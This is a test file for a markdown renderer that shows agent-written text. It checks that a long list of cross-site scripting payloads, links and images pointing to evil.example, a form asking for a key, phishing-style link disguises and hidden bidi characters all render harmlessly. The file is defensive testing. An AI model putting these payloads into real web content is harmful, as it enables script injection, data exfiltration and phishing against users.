import { describe, expect, test } from 'vitest';
import { expectHarmless, shown } from '../testing/markdown.ts';

const ATTACKS: readonly (readonly [string, string])[] = [
  ['script element', '<script>alert(1)</script>'],
  ['script in an open block', 'text\n\n<script src=//evil.example/x.js></script>\n\ntext'],
  ['event handler', '<img src=x onerror=alert(1)>'],
  ['event handler without quotes or spaces', '<svg/onload=alert(1)>'],
  ['handler on a harmless tag', '<p onclick="alert(1)" onmouseover=alert(1)>hover</p>'],
  ['body and details handlers', '<body onload=alert(1)><details open ontoggle=alert(1)>'],
  ['javascript link', '[click](javascript:alert(1))'],
  ['javascript link in another case', '[click](JaVaScRiPt:alert(1))'],
  ['javascript link with entities', '[click](&#106;avascript&colon;alert&lpar;1&rpar;)'],
  [
    'javascript link with control characters',
    '[click](java\u0000script:alert(1)) [c](java\nscript:alert(1)) [d](\u0001javascript:alert(1))',
  ],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['vbscript and data links', '[a](vbscript:msgbox(1)) [b](data:text/html,<script>alert(1)</script>)'],
  [
    'blob, file, ftp and custom links',
    '[a](blob:https://x/1) [b](file:///etc/passwd) [c](ftp://x/y) [d](intent://x#Intent;end)',
  ],
  [
    'relative and protocol-relative links',
    '[a](/api/chat/threads) [b](//evil.example) [c](#/t/other) [d](?x=1)',
  ],
  ['reference link', '[click][x]\n\n[x]: javascript:alert(1)'],
  ['remote image', '![cat](https://evil.example/pixel.gif?secret=1)'],
  ['remote image by reference', '![cat][x]\n\n[x]: https://evil.example/pixel.gif'],
  ['image with handler in title', '![x](https://evil.example/a.png "onerror=alert(1)")'],
  ['data image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['image inside of a link', '[![x](https://evil.example/a.png)](https://example.org)'],
  [
    'srcset and picture',
    '<picture><source srcset="https://evil.example/a 1x"><img srcset="//evil.example/b 2x"></picture>',
  ],
  [
    'svg with script',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  [
    'svg animation of a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  [
    'mathml',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['style element', '<style>body{background:url(https://evil.example)}</style>'],
  ['style attribute', '<p style="position:fixed;inset:0;background:url(//evil.example)">cover</p>'],
  [
    'iframe, object, embed',
    '<iframe src=//evil.example srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  ],
  [
    'form that asks for the key',
    '<form action="https://evil.example"><input name=key><button formaction=//evil.example>Sign in</button></form>',
  ],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['link element', '<link rel=stylesheet href=//evil.example/x.css>'],
  [
    'video poster and audio',
    '<video poster=//evil.example/p autoplay src=//evil.example/v></video><audio src=//evil.example/a>',
  ],
  [
    'template and noscript mutation',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=x onerror=alert(1)></template>',
  ],
  [
    'comment and cdata mutation',
    '<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>',
  ],
  ['id and name that clobber', '<a id=holdfast name=holdfast>x</a><img name=getElementById>'],
  ['attribute break-out in a title', '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")'],
  ['attribute break-out in a link', '[x](https://example.org/"onmouseover="alert(1))'],
  ['attribute break-out in a code language', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['html in a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
  [
    'html in a heading and a list',
    '# <img src=x onerror=alert(1)>\n\n- <script>alert(1)</script>\n- [ ] <svg/onload=alert(1)>',
  ],
  ['task list with a hostile box', '- [x] <input onfocus=alert(1) autofocus>'],
  ['unclosed everything', '<a href="javascript:alert(1)\n\n**<script>'],
  ['class that looks like the page', '<div class="card">Approve</div>'],
  ['data attributes that look like tests', '<p data-testid="approve" data-key="x">x</p>'],
];

describe('WEB-20 what an agent writes stays text', () => {
  test.each(ATTACKS)('WEB-20 %s', (_, text) => {
    for (const host of shown(text)) expectHarmless(host);
  });

  test('WEB-20 raw HTML is shown, not lost', () => {
    const [host] = shown('<img src=x onerror=alert(1)>');
    expect(host?.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  test('WEB-20 all of them in one answer', () => {
    for (const host of shown(ATTACKS.map(([, text]) => text).join('\n\n'))) expectHarmless(host);
  });
});

describe('WEB-21 nothing is loaded from elsewhere', () => {
  test('WEB-21 an image is a link that says where it is', () => {
    const [host] = shown('![a cat](https://pics.example/cat.png)');
    expect(host?.querySelector('img')).toBeNull();
    expect(host?.querySelector('a')?.textContent).toBe('[a cat: image at pics.example]');
  });
});

describe('WEB-22 links', () => {
  test('WEB-22 http, https and mailto lead somewhere', () => {
    const [host] = shown(
      '[a](http://a.example) [b](https://b.example/x?y#z) [c](mailto:c@d.example) https://e.example',
    );
    const hrefs = [...(host?.querySelectorAll('a') ?? [])].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual([
      'http://a.example/',
      'https://b.example/x?y#z',
      'mailto:c@d.example',
      'https://e.example/',
    ]);
  });

  test.each([
    ['[https://bank.example](https://evil.example/login)', 'https://bank.example (evil.example)'],
    ['[bank.example/login](https://evil.example)', 'bank.example/login (evil.example)'],
    ['[bank.example](https://bank.example@evil.example)', 'bank.example (evil.example)'],
    ['[**bank**.example](https://bank.example.evil.example)', 'bank.example (bank.example.evil.example)'],
    ['[help@bank.example](mailto:thief@evil.example)', 'help@bank.example (thief@evil.example)'],
  ])('WEB-22 WEB-27 %s is shown as %s', (text, expected) => {
    const [host] = shown(text);
    expect(host?.textContent).toBe(expected);
  });

  test('WEB-22 a link that may not be followed is its text', () => {
    const [host] = shown('[click me](javascript:alert(1))');
    expect(host?.textContent).toBe('click me');
    expect(host?.querySelector('a')).toBeNull();
  });
});

describe('WEB-23 hidden characters', () => {
  test('WEB-23 reading direction cannot be turned around', () => {
    const [host] = shown('invoice\u202Efdp.exe and \u2066x\u2069 and \u200Bhidden\u{E0041}\u{E0042}');
    expect(host?.textContent).toBe('invoicefdp.exe and x and hidden');
  });

  test('WEB-23 in code, too: what is copied is what was seen', () => {
    const [host] = shown('`if (admin\u202E)` and\n\n```\na\u2067b\n```');
    expect(host?.textContent).toBe('if (admin) andab');
  });

  test('WEB-23 a character reference hides nothing either', () => {
    const [host] = shown('a&#x202E;b&#8294;c&#x200b;d &#0; &amp;lt; &#x3c;b&#x3e;');
    expect(host?.textContent).toBe('abcd \uFFFD &lt; <b>');
  });

  test('WEB-23 languages and emoji that need joiners keep them', () => {
    const [host] = shown('می\u200Cخواهم 👩\u200D💻 עברית');
    expect(host?.textContent).toBe('می\u200Cخواهم 👩\u200D💻 עברית');
  });
});
